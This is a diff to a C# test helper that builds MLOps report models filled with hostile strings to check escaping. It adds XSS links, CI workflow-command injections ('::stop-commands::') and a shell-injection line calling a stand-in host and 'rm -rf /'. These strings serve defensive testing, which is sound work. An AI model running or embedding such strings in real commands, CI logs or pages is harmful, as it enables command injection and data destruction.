@@ -31,6 +31,15 @@ internal static class HostileModels
         "\"><svg onload=alert(1)> ' onmouseover='x",
         "{{7*7}} ${x} %{y} {% raw %}",
         "```mermaid\ngraph TD;A-->B\n```",
+        "::error file=x::y",
+        "\n::stop-commands::x",
+        "x ##[error]y",
+        "<!-- mlopsbuild:report model=x -->",
+        "[x](javascript:alert(1)) javascript:alert(1) data:text/html,x",
+        "@user #1 GH-1 www.a.b a@b.example",
+        "|---|\n| - | -\n=== \n---",
+        "<details open><summary>x</summary>",
+        "$(curl evil) ; rm -rf / && `id`",
     ];
 
     public static ReportModel Create(Func<int, string>? text = null, int slices = 20)
@@ -120,8 +129,41 @@ internal static class HostileModels
                     .Range(0, 20)
                     .Select(_ => new ReportChange(Next(), Next(), Next(), Next())),
             ],
+            Findings =
+            [
+                .. Enumerable
+                    .Range(0, 20)
+                    .Select(i => new ReportFinding(
+                        Next(),
+                        i + 1,
+                        (FindingLevel)(i % 3),
+                        Next(),
+                        Next()
+                    )),
+            ],
             Stages = [.. Enumerable.Range(0, 20).Select(_ => new ReportStage(Next(), Next()))],
             Reproduce = Next(),
+        };
+    }
+
+    /// <summary>The same as it may be taken over: what names or proves something is right, every other text hostile.</summary>
+    public static ReportModel Acceptable(Func<int, string>? text = null, int slices = 20)
+    {
+        var (model, good) = (Create(text, slices), ReportModels.Accepted());
+        return model with
+        {
+            Model = good.Model,
+            Project = "models/churn",
+            Commit = good.Commit,
+            Trainer = model.Trainer[..Math.Min(100, model.Trainer.Length)],
+            ModelDigest = good.ModelDigest,
+            DataDigest = good.DataDigest,
+            Comparison = model.Comparison! with
+            {
+                Baseline = model.Comparison.Baseline with { ModelDigest = good.ModelDigest },
+            },
+            Findings = [.. model.Findings.Select(f => f with { Path = "models/churn/mlops.yaml" })],
+            Stages = [.. model.Stages.Select(s => s with { Output = good.ModelDigest })],
         };
     }
 }
